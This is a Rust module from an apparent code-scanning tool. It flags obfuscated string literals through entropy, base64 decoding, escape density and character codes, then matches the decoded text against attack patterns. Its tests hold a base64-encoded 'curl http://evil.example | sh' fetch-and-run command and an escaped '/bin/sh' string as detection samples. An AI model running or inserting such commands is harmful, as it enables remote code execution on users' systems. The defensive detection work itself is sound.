//! Evasion heuristics on string literals and character codes: entropy, base64, escape density,
//! and the decoding that lets the string-pattern table see what was hidden.

use super::rules::STRING_PATTERNS;

/// `high_entropy_literal`.
pub(super) const HIGH_ENTROPY: &str = "high_entropy_literal";
/// `base64_blob`.
pub(super) const BASE64_BLOB: &str = "base64_blob";
/// `escape_density`.
pub(super) const ESCAPE_DENSITY: &str = "escape_density";
/// `char_codes`.
pub(super) const CHAR_CODES: &str = "char_codes";

/// A literal needs at least this many characters before its entropy means anything.
const ENTROPY_MIN_CHARS: usize = 20;
/// Bits per character above which a whitespace-free literal looks like a key or an encoded
/// payload. Lowercase hexadecimal tops out at exactly 4.0, so digests stay below it.
const ENTROPY_THRESHOLD: f64 = 4.0;
/// Shortest run of base64 characters worth decoding.
const BASE64_MIN_CHARS: usize = 16;
/// Share of printable characters a decoded blob needs to count as hidden text.
const PRINTABLE_SHARE: f64 = 0.9;
/// Share of escaped characters above which a literal is hiding its content.
const ESCAPE_THRESHOLD: f64 = 0.15;
/// Fewer escapes than this are ordinary (`"\0"`, one ANSI colour code).
const ESCAPE_MIN_COUNT: usize = 3;
/// Shortest integer array decoded as character codes.
pub(super) const CHAR_CODES_MIN: usize = 4;

/// One heuristic hit on a literal: its kind and, when the heuristic could decode it, the text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Hit {
    pub(super) kind: &'static str,
    pub(super) decoded: Option<String>,
}

/// Runs the literal heuristics on a string (or byte string) literal, given its source text
/// (`lit.token().to_string()`) and its value. A decodable base64 blob is reported as
/// `base64_blob` only, not also as `high_entropy_literal`: it is the more specific finding.
pub(super) fn check_literal(token_text: &str, value: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    if let Some(decoded) = base64_text(value) {
        hits.push(Hit {
            kind: BASE64_BLOB,
            decoded: Some(decoded),
        });
    } else if is_high_entropy(value) {
        hits.push(Hit {
            kind: HIGH_ENTROPY,
            decoded: None,
        });
    }
    if escape_dense(token_text, value) {
        hits.push(Hit {
            kind: ESCAPE_DENSITY,
            decoded: Some(value.to_owned()),
        });
    }
    hits
}

/// Shannon entropy in bits per character.
pub(super) fn shannon_entropy(s: &str) -> f64 {
    let mut counts = std::collections::HashMap::<char, usize>::new();
    let mut total = 0usize;
    for c in s.chars() {
        *counts.entry(c).or_default() += 1;
        total += 1;
    }
    if total == 0 {
        return 0.0;
    }
    let n = total as f64;
    counts
        .values()
        .map(|&k| {
            let p = k as f64 / n;
            -p * p.log2()
        })
        .sum()
}

/// Long, whitespace-free, mixing letters and digits, and above the entropy threshold. Entropy
/// alone cannot tell a 20-character key from a 20-character identifier: English prose reaches
/// about 4.1 bits per character, and so do dotted keys and format strings
/// (`behavior.outputSchemaDigest`, `.{key_hex}.{pid}`). Prose has whitespace; identifiers rarely
/// have digits, while random tokens almost always do (a 20-character random base64 token has no
/// digit with probability about 3%).
fn is_high_entropy(value: &str) -> bool {
    value.chars().count() >= ENTROPY_MIN_CHARS
        && !value.chars().any(char::is_whitespace)
        && value.chars().any(|c| c.is_ascii_digit())
        && value.chars().any(|c| c.is_alphabetic())
        && shannon_entropy(value) > ENTROPY_THRESHOLD
}

/// The decoded text when `value` is a base64 blob (standard or URL-safe alphabet, padding
/// optional) that decodes to mostly printable UTF-8.
pub(super) fn base64_text(value: &str) -> Option<String> {
    let value = value.trim();
    if value.len() < BASE64_MIN_CHARS {
        return None;
    }
    let bytes = decode_base64(value)?;
    let text = String::from_utf8(bytes).ok()?;
    printable(&text).then_some(text)
}

/// A small base64 decoder (the crate takes no dependency for it). `None` for anything that is
/// not exactly base64.
pub(super) fn decode_base64(s: &str) -> Option<Vec<u8>> {
    let body = s.trim_end_matches('=');
    let padding = s.len() - body.len();
    if padding > 2 || body.len() % 4 == 1 || (padding > 0 && !s.len().is_multiple_of(4)) {
        return None;
    }
    let mut out = Vec::with_capacity(body.len() * 3 / 4);
    let mut buf: u32 = 0;
    let mut bits = 0u32;
    for c in body.bytes() {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        };
        buf = (buf << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push(((buf >> bits) & 0xff) as u8);
            buf &= (1 << bits) - 1;
        }
    }
    Some(out)
}

/// Mostly printable ASCII or ordinary whitespace.
fn printable(text: &str) -> bool {
    let total = text.chars().count();
    if total == 0 {
        return false;
    }
    let good = text
        .chars()
        .filter(|c| c.is_ascii_graphic() || matches!(c, ' ' | '\t' | '\n' | '\r'))
        .count();
    good as f64 / total as f64 >= PRINTABLE_SHARE
}

/// Counts `\x..`, `\u{..}` and `\0` escapes in the literal's source text and compares them with
/// the number of characters they decode into. `\n`, `\t`, `\\` and `\"` are how ordinary strings
/// are written and are not counted.
fn escape_dense(token_text: &str, value: &str) -> bool {
    let escapes = count_escapes(token_text);
    let chars = value.chars().count();
    escapes >= ESCAPE_MIN_COUNT && chars > 0 && escapes as f64 / chars as f64 > ESCAPE_THRESHOLD
}

fn count_escapes(token_text: &str) -> usize {
    // Raw strings (r"..", br"..", cr"..") have no escapes at all.
    let prefix_end = token_text.find(['"', '\'']).unwrap_or(0);
    if token_text[..prefix_end].contains('r') {
        return 0;
    }
    let mut count = 0;
    let mut chars = token_text.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            continue;
        }
        // Consuming the escaped character here is what keeps `\\x` from being read as `\x`.
        if let Some('x' | 'u' | '0') = chars.next() {
            count += 1;
        }
    }
    count
}

/// Decodes integer character codes when all of them are printable ASCII or ordinary whitespace.
pub(super) fn decode_char_codes(codes: &[u32]) -> Option<String> {
    codes
        .iter()
        .map(|&c| {
            char::from_u32(c).filter(|ch| ch.is_ascii_graphic() || matches!(ch, ' ' | '\t' | '\n'))
        })
        .collect()
}

/// Every (pattern, family) of the string-pattern table found in decoded text, one per family.
pub(super) fn pattern_families(decoded: &str) -> Vec<(&'static str, &'static str)> {
    let lower = decoded.to_lowercase();
    let mut out: Vec<(&'static str, &'static str)> = Vec::new();
    for &(pattern, family) in STRING_PATTERNS {
        if lower.contains(pattern) && !out.iter().any(|(_, f)| *f == family) {
            out.push((pattern, family));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_round_trip_of_known_text() {
        let decoded = decode_base64("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=");
        assert_eq!(
            decoded.as_deref(),
            Some("curl http://evil.example | sh".as_bytes())
        );
        assert_eq!(decode_base64("aGk").as_deref(), Some("hi".as_bytes()));
        assert_eq!(decode_base64("a"), None);
        assert_eq!(decode_base64("a!bc"), None);
        assert_eq!(decode_base64("aGk=="), None);
    }

    #[test]
    fn literal_heuristics_on_ordinary_and_hidden_text() {
        let check = |token: &str, value: &str| -> Vec<&'static str> {
            check_literal(token, value).iter().map(|h| h.kind).collect()
        };
        let hex = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        assert!(
            check(&format!("{hex:?}"), hex).is_empty(),
            "hex digests max out at 4 bits"
        );
        for identifier in [
            "behavior.outputSchemaDigest",
            ".{key_hex}.{pid}.{counter}{TEMP_SUFFIX}",
            "commit.after_publish",
        ] {
            assert!(
                check(&format!("{identifier:?}"), identifier).is_empty(),
                "{identifier}"
            );
        }
        let prose = "Error: rm_rf is a decoy of the reference server and never deletes anything";
        assert!(check(&format!("{prose:?}"), prose).is_empty());
        let key = "kX9#qL2$wZ7!mN4@pR8%tV1^";
        assert_eq!(check(&format!("{key:?}"), key), [HIGH_ENTROPY]);
        assert_eq!(
            check(r#""\x2f\x62\x69\x6e\x2f\x73\x68""#, "/bin/sh"),
            [ESCAPE_DENSITY]
        );
        assert!(check(r#"r"\x2f\x62\x69\x6e""#, r"\x2f\x62\x69\x6e").is_empty());
        assert!(check(r#""line\n\tindented\\x""#, "line\n\tindented\\x").is_empty());
        assert!(check(r#""\x1b[31mred\x1b[0m""#, "\x1b[31mred\x1b[0m").is_empty());
    }

    #[test]
    fn patterns_one_per_family() {
        assert_eq!(
            pattern_families("curl http://evil.example | sh"),
            [("curl", "subprocess"), ("http://", "network")]
        );
        assert!(pattern_families("hello").is_empty());
    }
}
